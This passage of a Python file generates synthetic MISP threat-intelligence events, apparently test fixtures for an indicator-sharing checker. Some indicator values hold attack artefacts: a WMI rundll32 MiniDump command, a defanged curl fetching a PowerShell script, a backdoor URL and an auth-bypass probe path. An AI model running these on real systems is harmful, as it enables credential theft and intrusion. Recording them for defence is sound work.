                rel("vulnerable-configuration", "cpe",
                    "cpe:2.3:o:paloaltonetworks:pan-os:10.2.9:*:*:*:*:*:*:*"),
                rel("references", "link", "https://security.example.com/advisories/CVE-2024-3400"),
                rel("published", "datetime", "2024-04-12T00:00:00.000000+00:00"),
            ]),
        ],
        reports=[Report("Timeline", (
            "Exploitation of @@cve@@ against vpn.exampleenergy.example started at 20:14 UTC.\n\n"
            "Payloads were blocked by threat prevention; the appliance was patched the next morning "
            "under change ticket INC-0048290.\n"
        ))],
    ))

    # 6 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="ot-hmi-anomaly-kestrel", day=14, distribution=0, tlp="tlp:red", pap="PAP:RED",
        creator="jonas", threat_level=1, analysis=1,
        info="Substation Kestrel: unauthorised engineering-software session on SCADA HMI",
        exercises="TLP:RED + PAP:RED + distribution 0 event: OT hosts, Modbus ip-dst|port, targeting data, "
                  "network-connection, unique external source IP",
        tags=(attack("Remote Services - T1021"), "ics:attack-target=\"human-machine-interface\""),
        attributes=[
            Attr("ip-src", "203.0.113.210", "Remote session source (vendor VPN exit?)"),
            Attr("hostname", "scada-hmi-03.corp.example", "HMI running the engineering software",
                 to_ids=False),
            Attr("ip-dst|port", f"{IP['rtu-gw-kestrel-01.ot.corp.example']}|502",
                 "Modbus writes to the RTU gateway", to_ids=False),
            Attr("target-machine", "scada-hmi-03.corp.example"),
            Attr("target-machine", "rtu-gw-kestrel-01.ot.corp.example"),
            Attr("target-user", S["farid"].account, f"Account of {S['farid'].name} used for the session"),
            Attr("target-location", "Substation Kestrel, 33 kV switchyard control room"),
            Attr("counter", "14", "Modbus write commands in the session"),
            Attr("text", "Session started from jump-ot-02.corp.example after a VPN login from 203.0.113.210; "
                         "breaker interlock settings were read but not changed.", category="Other"),
        ],
        objects=[
            Obj("network-connection", [
                rel("ip-src", "ip-src", IP["scada-hmi-03.corp.example"], to_ids=False),
                rel("ip-dst", "ip-dst", IP["rtu-gw-kestrel-01.ot.corp.example"], to_ids=False),
                rel("dst-port", "port", "502"),
                rel("layer7-protocol", "text", "Modbus/TCP"),
                rel("count", "counter", "14"),
                rel("hostname-src", "hostname", "scada-hmi-03.corp.example", to_ids=False),
            ], comment="Captured by zeek-ot-02.corp.example (172.20.1.7)"),
        ],
    ))

    # 7 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="recon-nightjar-recruiters", day=16, distribution=1, tlp="tlp:amber+strict", pap="PAP:AMBER",
        creator="jonas", threat_level=2, analysis=1,
        info="Project Nightjar: reconnaissance of engineering staff through fake recruiter profiles",
        exercises="TLP:AMBER+STRICT event: targeting data (target-user/email/org/location), staff "
                  "names, unique recruiter infrastructure",
        tags=(attack("Gather Victim Identity Information - T1589"),
              attack("Phishing for Information - T1598")),
        attributes=[
            Attr("email-src", "talent@helix-recruit.example.org", "Recruiter persona"),
            Attr("url", "https://helix-recruit.example.org/jobs/hv-protection-lead", "Fake job advert"),
            Attr("domain", "helix-recruit.example.org"),
            Attr("target-email", S["bjorn"].email),
            Attr("target-email", S["farid"].email),
            Attr("target-user", S["bjorn"].name, "Approached on a professional network"),
            Attr("target-org", f"{ORG_NAME} - Grid Engineering"),
            Attr("target-location", "Northfield control centre"),
            Attr("text", "Both engineers work on Project Nightjar; the persona asked about HV protection "
                         "relay settings.", category="Other"),
        ],
    ))

    # 8 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="credential-stuffing-portal", day=19, distribution=2, tlp="tlp:green", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Credential stuffing against the customer self-service portal",
        exercises="ip-src list, counters and float, org's public IP and host as targets, "
                  "distribution-0 attribute, sightings from two partners",
        tags=(attack("Credential Stuffing - T1110.004"),),
        attributes=[
            *[Attr("ip-src", addr, "Stuffing source (residential proxy)",
                   sightings=(Sight(water, "WAF on customer portal", 6),) if i == 0 else ())
              for i, addr in enumerate(("203.0.113.71", "203.0.113.72", "203.0.113.80",
                                        "203.0.113.91", "192.0.2.15", "192.0.2.16"))],
            Attr("user-agent", "python-httpx/0.27.0"),
            Attr("url", "https://portal.exampleenergy.example/api/v2/login", "Targeted endpoint",
                 to_ids=False),
            Attr("ip-dst", IP["portal.exampleenergy.example"], "Portal front end", to_ids=False),
            Attr("target-machine", "portal.exampleenergy.example"),
            Attr("counter", "18452", "Failed logins in 24 h"),
            Attr("counter", "23", "Successful logins (accounts reset)"),
            Attr("float", "0.12", "Success rate in percent"),
            Attr("ip-src", "203.0.113.222", "Also on our WAF allow-list review - internal only",
                 distribution=0),
        ],
    ))

    # 9 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="bec-cfo-impersonation", day=21, distribution=4, sharing_group="nordic",
        tlp="tlp:amber", pap="PAP:AMBER", creator="elena", threat_level=2, analysis=2,
        info="Business e-mail compromise attempt impersonating the CFO",
        exercises="sharing group 2, email object with staff display name, sensitive term in subject "
                  "and body, float amount, sending server",
        tags=(attack("Internal Spearphishing - T1534"), 'circl:incident-classification="fraud"'),
        attributes=[
            Attr("email-src", "d.reyes.cfo@securemail-relay.example.org"),
            Attr("email-reply-to", "cfo.office@securemail-relay.example.org", to_ids=True),
            Attr("domain", "securemail-relay.example.org"),
            Attr("ip-src", "192.0.2.77", "Sending MTA"),
            Attr("float", "184500.00", "Requested transfer in EUR"),
        ],
        objects=[
            email_object(
                sender="d.reyes.cfo@securemail-relay.example.org", display_name=S["daniel"].name,
                to=[S["leo"].email], reply_to="cfo.office@securemail-relay.example.org",
                subject="Urgent: confidential supplier payment - Project Nightjar",
                message_id="<CAF7x2a9.184500@securemail-relay.example.org>", sent=at(21, 1, 3),
                attachments=("Payment_instructions.pdf",), received_by="mail.exampleenergy.example",
                body="Leo,\n\nI need you to process a confidential payment of EUR 184,500 today for the "
                     "Project Nightjar supplier. Do not discuss this with anyone until the announcement. "
                     "Instructions attached.\n\nDaniel Reyes\nChief Financial Officer",
                comment=f"Forwarded by the recipient; {S['daniel'].email} confirmed he never sent it",
            ),
        ],
    ))

    # 10 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="watering-hole-energy-forum", day=24, distribution=3, tlp="tlp:clear", pap="PAP:GREEN",
        creator="kira", threat_level=2, analysis=2,
        info="Watering-hole on an energy-sector forum serving an exploit kit",
        exercises="url objects (url/host/domain/ip/resource_path/scheme), domain-ip object, sha256, "
                  "internal workstation named in a shareable comment",
        tags=(attack("Drive-by Compromise - T1189"),),
        attributes=[
            Attr("sha256", sha256_of("gridtalk-analytics-js"), "Injected analytics.js"),
            Attr("hostname", "static.gridtalk-cdn.example", "Exploit kit landing",
                 sightings=(Sight(ee, "proxy-01.corp.example (172.16.6.8)", 3),)),
            Attr("ip-dst", "192.0.2.44", "Forum host"),
            Attr("url", "https://static.gridtalk-cdn.example/js/analytics.js",
                 "Visited by eng-ws-117.corp.example before the block"),
        ],
        objects=[
            Obj("url", [
                rel("url", "url", "https://forum.gridtalk.example/threads/scada-patching-2025"),
                rel("scheme", "text", "https"),
                rel("host", "hostname", "forum.gridtalk.example"),
                rel("domain", "domain", "gridtalk.example"),
                rel("resource_path", "text", "/threads/scada-patching-2025"),
                rel("ip", "ip-dst", "192.0.2.44"),
            ], comment="Compromised thread page"),
            Obj("domain-ip", [
                rel("domain", "domain", "gridtalk-cdn.example"),
                rel("hostname", "hostname", "static.gridtalk-cdn.example"),
                rel("ip", "ip-dst", "192.0.2.45"),
            ]),
        ],
    ))

    # 11 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="dns-tunnel-draft", day=26, distribution=1, tlp="tlp:amber", pap="PAP:AMBER",
        creator="elena", threat_level=3, analysis=0, published=False,
        info="DRAFT: suspected DNS tunnelling from the engineering VLAN (INC-0048402)",
        exercises="unpublished draft, network-connection with internal source, counter, size-in-bytes, "
                  "base64 blob hiding host, account and project name",
        tags=('workflow:state="draft"', attack("DNS - T1071.004")),
        attributes=[
            Attr("domain", "t.qx7-resolver.example.net", "Tunnel domain",
                 first_seen=at(25, 3), last_seen=at(26, 1)),
            Attr("hostname", "eng-ws-117.corp.example", "Querying host", to_ids=False),
            Attr("counter", "9231", "TXT queries in 6 h"),
            Attr("size-in-bytes", "1843200", "Estimated payload carried"),
            Attr("text", f"Sample TXT chunk decoded once (base64): {TXT_CHUNK_B64}",
                 category="Network activity"),
        ],
        objects=[
            Obj("network-connection", [
                rel("ip-src", "ip-src", IP["eng-ws-117.corp.example"], to_ids=False),
                rel("ip-dst", "ip-dst", "198.51.100.53"),
                rel("dst-port", "port", "53"),
                rel("layer4-protocol", "text", "UDP"),
                rel("layer7-protocol", "text", "DNS"),
                rel("count", "counter", "9231"),
            ]),
        ],
    ))

    # 12 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="onenote-loader", day=28, distribution=2, tlp="tlp:green", pap="PAP:GREEN",
        creator="kira", threat_level=2, analysis=2,
        info="OneNote attachments dropping a QakBot-style loader",
        exercises="email object whose recipients are distribution 0, percent-encoded staff e-mail in "
                  "a URL, file objects, sightings by three organisations",
        tags=(attack("Spearphishing Attachment - T1566.001"), 'misp-galaxy:malpedia="QakBot"'),
        attributes=[
            Attr("url",
                 "https://docs-viewer.example.org/view?doc=Benefits2025.one&u=isabel.fontaine%40exampleenergy.example",
                 "Personalised download link"),
            Attr("url", "https://docs-viewer.example.org/d/8f3a/update.dat", "Loader download",
                 sightings=(Sight(ee, "proxy-01.corp.example", 2), Sight(hydro, "Proxy", 20),
                            Sight(water, "Sandbox detonation", 26))),
            Attr("ip-dst", "198.51.100.88", "docs-viewer.example.org"),
            Attr("domain", "docs-viewer.example.org"),
        ],
        objects=[
            email_object(
                sender="hr-benefits@payroll-update.example.net", display_name="HR Benefits",
                to=[S["isabel"].email, S["chloe"].email], to_distribution=0,
                to_names=(S["isabel"].name, S["chloe"].name),
                subject="2025 benefits enrolment - action needed",
                message_id="<e1b77c0a.77@payroll-update.example.net>", sent=at(28, 0, 50),
                attachments=("Benefits2025.one",),
                body="Hi,\n\nPlease open the attached OneNote file and double-click 'View document' to "
                     "confirm your 2025 benefits choices.\n\nHR Benefits Team",
                ref="mail", references=(("contains", "one"),),
            ),
            file_object("benefits-one", "Benefits2025.one", 96512, ref="one",
                        references=(("drops", "qdll"),)),
            file_object("benefits-dll", "update.dat", 712704, category="Artifacts dropped", entropy="7.42",
                        ref="qdll"),
        ],
    ))

    # 13 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="remote-access-tool-abuse", day=31, distribution=4, sharing_group="energy-isac",
        tlp="tlp:amber", pap="PAP:RED", creator="jonas", threat_level=1, analysis=1,
        info="Abuse of a vendor remote-access tool to reach the OT jump host",
        exercises="PAP:RED in a sharing-group event: unique relay infrastructure, service account, "
                  "OT jump host as target",
        tags=(attack("Remote Access Software - T1219"), attack("External Remote Services - T1133")),
        attributes=[
            Attr("ip-src", "203.0.113.214", "Relay address of the rogue session"),
            Attr("domain", "vendor-relay7.example.net", "Relay broker"),
            Attr("hostname", "jump-ot-02.corp.example", to_ids=False),
            Attr("target-machine", "jump-ot-02.corp.example"),
            Attr("target-user", "CORP\\svc-vendor-ra", "Vendor support account"),
            Attr("text", "Session ID 482-991-017 was not requested by the vendor; account disabled.",
                 category="Other"),
        ],
    ))

    # 14 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="m365-phishing-kit", day=33, distribution=3, tlp="tlp:white", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Microsoft 365 credential phishing kit on compromised WordPress sites",
        exercises="url object whose query string carries a percent-encoded staff e-mail, domain-ip, "
                  "kit hash, reply-to, sighting",
        tags=(attack("Spearphishing Link - T1566.002"), attack("Steal Web Session Cookie - T1539")),
        attributes=[
            Attr("url", "https://blog.harbourfood.example.com/wp-includes/css/m365/index.php",
                 "Kit entry point",
                 sightings=(Sight(ee, "mail-gw-02.corp.example URL rewrite", 1),)),
            Attr("email-src", "sharepoint-noreply@docshare-notify.example.net"),
            Attr("sha256", sha256_of("m365-kit-v4.zip"), "m365_kit_v4.zip left in the web root"),
            Attr("filename", "m365_kit_v4.zip"),
        ],
        objects=[
            Obj("url", [
                rel("url", "url", "https://blog.harbourfood.example.com/wp-includes/css/m365/index.php"
                                  "?e=alice.hartmann%40corp.example"),
                rel("host", "hostname", "blog.harbourfood.example.com"),
                rel("domain", "domain", "harbourfood.example.com"),
                rel("query_string", "text", "e=alice.hartmann%40corp.example"),
            ], comment="Link as received by the user"),
            Obj("domain-ip", [
                rel("domain", "domain", "harbourfood.example.com"),
                rel("ip", "ip-dst", "198.51.100.102"),
            ]),
        ],
    ))

    # 15 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="ransomware-leak-site", day=35, distribution=2, tlp="tlp:amber", pap="PAP:AMBER",
        creator="kira", threat_level=1, analysis=1,
        info="Ransomware leak site and negotiation portal linked to INC-0048213",
        exercises="org name inside a URL slug and text, leak-site infrastructure, counter, "
                  "size-in-bytes, float",
        tags=('misp-galaxy:ransomware="LockBit"', attack("Financial Theft - T1657")),
        attributes=[
            Attr("hostname", "leak-portal.example", "Leak site"),
            Attr("hostname", "chat.negotiate-portal.example", "Negotiation chat"),
            Attr("ip-dst", "192.0.2.150", "Leak site address"),
            Attr("url", "http://leak-portal.example/company/example-energy-ltd", "Our listing", to_ids=False),
            Attr("counter", "12", "Days left on the countdown"),
            Attr("size-in-bytes", "52613349376", "Data volume claimed (49 GiB)"),
            Attr("float", "2.75", "Demand in BTC"),
            Attr("text", f"Listing names {ORG_NAME}; sample files include a Project Nightjar budget sheet.",
                 category="Other"),
        ],
    ))

    # 16 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="ivanti-chain-probing", day=38, distribution=1, tlp="tlp:amber", pap="PAP:AMBER",
        creator="kira", threat_level=2, analysis=1, published=False,
        info="Probing of the remote-access gateway for CVE-2023-46805 / CVE-2024-21887",
        exercises="unpublished event, two CVEs and a vulnerability object, uri pattern, internal URL, "
                  "org's public IP, counter",
        tags=(attack("Exploit Public-Facing Application - T1190"),),
        attributes=[
            Attr("vulnerability", "CVE-2023-46805"),
            Attr("vulnerability", "CVE-2024-21887"),
            Attr("ip-src", "192.0.2.61", "Scanner"),
            Attr("ip-src", "192.0.2.62", "Scanner"),
            Attr("uri", "/api/v1/totp/user-backup-code/../../license/keys-status/", "Auth-bypass probe"),
            Attr("url",
                 "https://vpn.exampleenergy.example/api/v1/totp/user-backup-code/../../license/keys-status/",
                 "As logged by vpn-gw-01.corp.example (172.16.5.10)", to_ids=False),
            Attr("ip-dst", IP["vpn.exampleenergy.example"], to_ids=False),
            Attr("counter", "312", "Probe requests"),
        ],
        objects=[
            Obj("vulnerability", [
                rel("id", "vulnerability", "CVE-2024-21887"),
                rel("cvss-score", "float", "9.1"),
                rel("summary", "text", "Command injection in the web component of the gateway."),
                rel("references", "link", "https://security.example.com/advisories/CVE-2024-21887"),
            ]),
        ],
    ))

    # 17 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="lotl-lateral-jump", day=40, distribution=0, tlp="tlp:amber", pap="PAP:AMBER",
        creator="kira", threat_level=1, analysis=2,
        info="Living-off-the-land lateral movement from the OT jump host (INC-0048377)",
        exercises="distribution-0 event: internal ip-dst|port, ip-src|port, hostnames, WMI command "
                  "line, unique staging host and tool hash",
        tags=(attack("Windows Management Instrumentation - T1047"),
              attack("Remote Desktop Protocol - T1021.001")),
        attributes=[
            Attr("ip-dst|port", f"{IP['jump-ot-02.corp.example']}|3389", "RDP into the jump host",
                 to_ids=False),
            Attr("ip-dst|port", f"{IP['dc01.corp.example']}|445", "SMB to the domain controller",
                 to_ids=False),
            Attr("ip-src|port", f"{IP['jump-ot-02.corp.example']}|50112", to_ids=False),
            Attr("hostname", "jump-ot-02.corp.example", to_ids=False),
            Attr("hostname", "historian-01.ot.corp.example", to_ids=False),
            Attr("ip-dst", "192.0.2.205", "Attacker staging host"),
            Attr("target-user", S["henrik"].account,
                 f"Stolen credentials of {S['henrik'].name} used for RDP"),
            Attr("text", "wmic /node:10.40.2.30 process call create \"cmd /c rundll32 comsvcs.dll MiniDump\"",
                 "Recovered from jump-ot-02 Sysmon", category="Artifacts dropped"),
        ],
        objects=[
            file_object("procdump-renamed", "wermgr_x64.exe", 409600, category="Artifacts dropped",
                        comment="Renamed ProcDump on jump-ot-02"),
        ],
    ))

    # 18 --------------------------------------------------------------------------------------
    spray_sources = pick_hosts(rng, "203.0.113.0/24", 150, 199, 10)
    events.append(Scenario(
        slug="password-spray-entra", day=42, distribution=3, tlp="tlp:green", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Password spraying against the Entra ID tenant from a residential proxy network",
        exercises="many ip-src (seeded list), target-email, counters, float",
        tags=(attack("Password Spraying - T1110.003"), attack("Valid Accounts - T1078")),
        attributes=[
            *[Attr("ip-src", addr, "Spray source", first_seen=at(41, 22), last_seen=at(42, 4))
              for addr in spray_sources],
            Attr("user-agent", "BAV2ROPC", "Legacy authentication client"),
            Attr("counter", "5820", "Authentication attempts"),
            Attr("counter", "3", "Accounts locked out"),
            Attr("float", "0.05", "Success rate in percent"),
            Attr("target-email", S["chloe"].email, "Successful sign-in, MFA blocked"),
            Attr("target-email", S["isabel"].email),
            Attr("target-email", S["grace"].email),
        ],
    ))

    # 19 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="usb-worm-engineering", day=45, distribution=1, tlp="tlp:amber", pap="PAP:AMBER",
        creator="kira", threat_level=2, analysis=2,
        info="USB-borne worm on an engineering workstation",
        exercises="file objects, IPv6 C2, internal workstation and SharePoint URL with percent-encoded "
                  "project name, lower-case sensitive term, internal sighting source",
        tags=(attack("Replication Through Removable Media - T1091"),),
        attributes=[
            Attr("domain", "q2.wkr-edge.example", "Worm C2",
                 sightings=(Sight(ee, "edr sensor on eng-ws-117.corp.example", 1),)),
            Attr("ip-dst", "2001:db8:77::15", "Worm C2 (AAAA)"),
            Attr("hostname", "eng-ws-117.corp.example", to_ids=False),
            Attr("target-machine", "eng-ws-117.corp.example"),
            Attr("target-user", S["bjorn"].account),
            Attr("url", "https://sharepoint.exampleenergy.example/sites/Engineering/Shared%20Documents/"
                        "Project%20Nightjar/HV-layout-rev7.pdf",
                 "Document opened minutes before the first beacon", to_ids=False),
            Attr("text", "USB stick found in the substation kestrel control room; handed to IT.",
                 category="Other"),
        ],
        objects=[
            file_object("usb-lnk", "USB Drive.lnk", 1874, comment="Shortcut on the stick"),
            file_object("usb-dll", "ntuser.dat.tmp", 331776, category="Artifacts dropped", entropy="7.05"),
        ],
    ))

    # 20 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="historian-outbound", day=47, distribution=4, sharing_group="nordic",
        tlp="tlp:green", pap="PAP:GREEN", creator="jonas", threat_level=2, analysis=1,
        info="Suspicious outbound MQTT connections from the plant historian to 198.51.100.77",
        exercises="network-connection with internal source and byte/packet counts, ip-port, ip-src|port "
                  "with internal address, object with distribution 0, object with distribution 1",
        tags=(attack("Exfiltration Over C2 Channel - T1041"), attack("Non-Standard Port - T1571")),
        attributes=[
            Attr("ip-dst", "198.51.100.77", "MQTT broker", first_seen=at(46, 2), last_seen=at(47, 6)),
            Attr("domain|ip", "sync.histdata-cloud.example.net|198.51.100.77"),
            Attr("ip-src|port", f"{IP['historian-01.ot.corp.example']}|49822", "Historian side",
                 to_ids=False),
        ],
        objects=[
            Obj("network-connection", [
                rel("ip-src", "ip-src", IP["historian-01.ot.corp.example"], to_ids=False),
                rel("ip-dst", "ip-dst", "198.51.100.77"),
                rel("src-port", "port", "49822"),
                rel("dst-port", "port", "8883"),
                rel("layer7-protocol", "text", "MQTT"),
                rel("src-bytes-count", "size-in-bytes", "734003200"),
                rel("src-packets-count", "counter", "512210"),
                rel("first-packet-seen", "datetime", iso(at(46, 2))),
                rel("last-packet-seen", "datetime", iso(at(47, 6))),
            ], comment="historian-01.ot.corp.example to the broker"),
            Obj("ip-port", [
                rel("ip", "ip-dst", "198.51.100.77"),
                rel("dst-port", "port", "8883"),
                rel("domain", "domain", "sync.histdata-cloud.example.net"),
            ], distribution=1),
            file_object("histsync-conf", "histsync-7731.conf", 1536, category="Artifacts dropped",
                        comment="Agent configuration with broker credentials", distribution=0),
        ],
    ))

    # 21 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="insider-exfil-triage", day=49, distribution=0, tlp="tlp:red", pap="PAP:RED",
        creator="jonas", threat_level=1, analysis=0, published=False,
        info="Triage notes: suspected insider copying design documents to a personal mailbox",
        exercises="unpublished TLP:RED distribution-0 event: personal mailbox, size-in-bytes, "
                  "staff account, event report with sensitive details",
        tags=('workflow:state="incomplete"',),
        attributes=[
            Attr("email-dst", "m.private-archive@example.com", "Personal mailbox receiving the files",
                 ref="mbox"),
            Attr("size-in-bytes", "7516192768", "Data forwarded (7 GiB)"),
            Attr("target-user", S["maya"].account, "Account under review"),
            Attr("text", "Files came from \\\\sharepoint.exampleenergy.example\\sites\\Engineering - "
                         "Project Nightjar layouts (10.12.10.5). HR informed (Chloe Okafor).",
                 category="Other"),
        ],
        reports=[Report("Triage notes", (
            "**Do not share.** Legal hold requested by the CISO under INC-0048650.\n\n"
            "Mail forwarding rule to @@mbox@@ created from fin-ws-042.corp.example.\n"
        ))],
    ))

    # 22 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="invoice-fraud-typosquats", day=52, distribution=2, tlp="tlp:clear", pap="PAP:GREEN",
        creator="elena", threat_level=3, analysis=2,
        info="Typosquatted supplier domains used in invoice-redirection fraud",
        exercises="lookalike domains, whois registrant, domain|ip, sightings",
        tags=(attack("Financial Theft - T1657"), attack("Acquire Infrastructure: Domains - T1583.001")),
        attributes=[
            Attr("domain", "northwind-supp1ies.example.org", "Lookalike of the supplier domain",
                 sightings=(Sight(grid, "Mail filter", 4),)),
            Attr("domain", "northwlnd-supplies.example.org"),
            Attr("domain", "northwind-suppliesltd.example.net"),
            Attr("email-src", "accounts@northwind-supp1ies.example.org"),
            Attr("domain|ip", "northwind-supp1ies.example.org|192.0.2.98"),
            Attr("whois-registrant-email", "regdesk@privacyguard.example.com"),
        ],
    ))

    # 23 --------------------------------------------------------------------------------------
    botnet = pick_hosts(rng, "203.0.113.0/24", 100, 149, 12)
    events.append(Scenario(
        slug="ddos-public-website", day=55, distribution=3, tlp="tlp:white", pap="PAP:GREEN",
        creator="kira", threat_level=3, analysis=2,
        info="Volumetric DDoS against the public website from an IoT botnet",
        exercises="botnet ip-src (seeded list), counter, float, size-in-bytes, org's public web "
                  "server as target",
        tags=(attack("Network Denial of Service - T1498"),),
        attributes=[
            *[Attr("ip-src", addr, "Botnet node", first_seen=at(55, 1), last_seen=at(55,
                   3)) for addr in botnet],
            Attr("counter", "41822", "Distinct sources"),
            Attr("float", "38.6", "Peak Gbit/s"),
            Attr("size-in-bytes", "2199023255552", "Traffic volume (2 TiB)"),
            Attr("target-machine", "www.exampleenergy.example"),
            Attr("ip-dst", IP["www.exampleenergy.example"], "Targeted web server", to_ids=False),
        ],
    ))

    # 24 --------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="edge-firewall-post-incident", day=58, distribution=3, tlp="tlp:green", pap="PAP:GREEN",
        creator="jonas", threat_level=2, analysis=2,
        info="Post-incident report: edge firewall persistence after CVE-2024-3400",
        exercises="long event report (markdown) mixing shareable IOCs with defanged internal URL, "
                  "hostnames, tickets and sensitive term; file object, persistence path",
        tags=(attack("Exploit Public-Facing Application - T1190"),
              attack("Server Software Component - T1505")),
        attributes=[
            Attr("vulnerability", "CVE-2024-3400", ref="cve"),
            Attr("url", "http://198.51.100.140/update.py", "Backdoor download", ref="dl"),
            Attr("ip-dst", "198.51.100.140"),
            Attr("sha256", sha256_of("upstyle-update.py"), "update.py backdoor", ref="py"),
            Attr("filename", "/usr/lib/python3.6/site-packages/system.pth", "Persistence path"),
        ],
        objects=[
            file_object("upstyle-update.py", "update.py", 5215, category="Payload installation", ref="pyobj"),
        ],
        reports=[Report("Post-incident report", (
            "# Edge firewall compromise\n\n"
            "## Summary\n\n"
            "Exploitation of @@cve@@ on fw-edge-01.corp.example (public 192.0.2.230) led to a Python "
            "backdoor @@pyobj@@ fetched from `hxxp://198[.]51[.]100[.]140/update.py` (@@dl@@).\n\n"
            "## Internal scope\n\n"
            "The attacker ran `curl hxxp://10[.]40[.]1[.]12:8080/s.ps1` from the appliance shell and "
            "queried dc01.corp.example over LDAP. No access to Substation Kestrel networks was found.\n\n"
            "## Tickets\n\n"
            "INC-0048290 (patching), INC-0048519 (forensics).\n\n"
            "Author: Jonas Weber, with Kira Ivanova (incident response)\n"
        ))],
    ))

    return events


# --------------------------------------------------------------------------------------------
# Building MISP JSON
# --------------------------------------------------------------------------------------------

class Builder:
    """Turns one scenario into MISP event JSON, assigning uuids and timestamps."""

    def __init__(self, spec: Scenario, rng: random.Random):
        self.spec = spec
        self.rng = rng
        self.event_uuid = det_uuid("event", spec.slug)
        self.created = at(spec.day, 2) + timedelta(minutes=rng.randrange(0, 50))
        self.clock = self.created
        self.refs: dict[str, tuple[str, str]] = {}  # ref -> ("attribute" | "object", uuid)
        self.counter = 0

    def tick(self) -> str:
        self.clock += timedelta(seconds=37 + self.rng.randrange(0, 60))
        return epoch(self.clock)

    def uid(self, kind: str) -> str:
        self.counter += 1
        return det_uuid("event", self.spec.slug, kind, str(self.counter))

    def sighting(self, s: Sight) -> dict:
        when = self.created + timedelta(hours=s.hours_after, minutes=self.rng.randrange(0, 60))
        return {
            "uuid": self.uid("sighting"),
            "type": s.type,
            "date_sighting": epoch(when),
            "source": s.source,
            "Organisation": {"name": s.org["name"], "uuid": s.org["uuid"]},
        }

    def attribute(self, a: Attr, object_name: str | None = None) -> dict:
        category, to_ids = TYPE_DEFAULTS[a.type]
        if object_name is not None:
            category = RELATION_CATEGORIES.get((object_name, a.relation), category)
        out: dict = {"uuid": self.uid("attribute"), "type": a.type}
        if a.relation is not None:
            out["object_relation"] = a.relation
        out |= {
            "category": a.category or category,
            "value": a.value,
            "to_ids": to_ids if a.to_ids is None else a.to_ids,
            "comment": a.comment,
            "timestamp": self.tick(),
            "distribution": str(a.distribution),
            "sharing_group_id": "0",
            "disable_correlation": a.disable_correlation,
        }
        if a.first_seen is not None:
            out["first_seen"] = iso(a.first_seen)
        if a.last_seen is not None:
            out["last_seen"] = iso(a.last_seen)
        if a.tags:
            out["Tag"] = [{"name": t} for t in a.tags]
        if a.sightings:
            out["Sighting"] = [self.sighting(s) for s in a.sightings]
        if a.ref:
            self.refs[a.ref] = ("attribute", out["uuid"])
        return out

    def object(self, o: Obj) -> dict:
        template_uuid, version, meta, description = TEMPLATES[o.name]
        out = {
            "uuid": self.uid("object"),
            "name": o.name,
            "meta-category": meta,
            "description": description,
            "template_uuid": template_uuid,
            "template_version": version,
            "comment": o.comment,
            "distribution": str(o.distribution),
            "sharing_group_id": "0",
            "timestamp": "",
        }
        if o.ref:
            self.refs[o.ref] = ("object", out["uuid"])
        out["Attribute"] = [self.attribute(a, o.name) for a in o.attributes]
        out["timestamp"] = max(a["timestamp"] for a in out["Attribute"])
        return out

    def build(self) -> dict:
        spec = self.spec
        attributes = [self.attribute(a) for a in spec.attributes]
        objects = [self.object(o) for o in spec.objects]
        # Object references need every uuid, so they are added once all objects exist.
        for spec_obj, obj in zip(spec.objects, objects, strict=True):
            if spec_obj.references:
                obj["ObjectReference"] = [{
                    "uuid": self.uid("reference"),
                    "object_uuid": obj["uuid"],
                    "referenced_uuid": self.refs[target][1],
                    "relationship_type": relationship,
                    "comment": "",
                    "timestamp": obj["timestamp"],
                } for relationship, target in spec_obj.references]
        reports = [{
            "uuid": self.uid("report"),
            "name": r.name,
            "content": self.resolve_refs(r.content),
            "distribution": str(r.distribution),
            "sharing_group_id": "0",
            "timestamp": self.tick(),
        } for r in spec.reports]

        timestamp = self.tick()
        event: dict = {
            "uuid": self.event_uuid,
            "info": spec.info,
            "date": at(spec.day).date().isoformat(),
            "timestamp": timestamp,
            "publish_timestamp": str(int(timestamp) + 300) if spec.published else "0",
            "published": spec.published,
            "threat_level_id": str(spec.threat_level),
            "analysis": str(spec.analysis),
            "distribution": str(spec.distribution),
            "sharing_group_id": SHARING_GROUPS[spec.sharing_group]["id"] if spec.sharing_group else "0",
        }
        if spec.sharing_group:
            sg = SHARING_GROUPS[spec.sharing_group]
            event["SharingGroup"] = {"name": sg["name"], "uuid": sg["uuid"],
                                     "releasability": sg["releasability"]}
        event |= {
            "event_creator_email": STAFF[spec.creator].email,
            "Orgc": dict(ORG),
            "Org": dict(ORG),
            "Tag": [{"name": t} for t in (spec.tlp, spec.pap, *spec.tags)],
            "Attribute": attributes,
            "Object": objects,
        }
        if reports:
            event["EventReport"] = reports
        return {"Event": event}

    def resolve_refs(self, content: str) -> str:
        for ref, (kind, ref_uuid) in self.refs.items():
            content = content.replace(f"@@{ref}@@", f"@[{kind}]({ref_uuid})")
        if "@@" in content:
            raise ValueError(f"{self.spec.slug}: unresolved report reference in {content!r}")
        return content


# --------------------------------------------------------------------------------------------
# Canaries and shareable indicators
# --------------------------------------------------------------------------------------------

def iter_strings(node) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from iter_strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from iter_strings(value)


def event_blocking_kind(event: dict) -> str | None:
    """Why a whole event may not be shared, as a canary kind, or None."""
    tags = {t["name"] for t in event.get("Tag", [])}
    for tag, kind in NON_SHAREABLE_TAGS.items():
        if tag in tags:
            return kind
    if event["distribution"] == "0":
        return "distribution-0"
    return None


def attribute_blocking_kind(attribute: dict, misp_object: dict | None) -> str | None:
    tags = {t["name"] for t in attribute.get("Tag", [])}
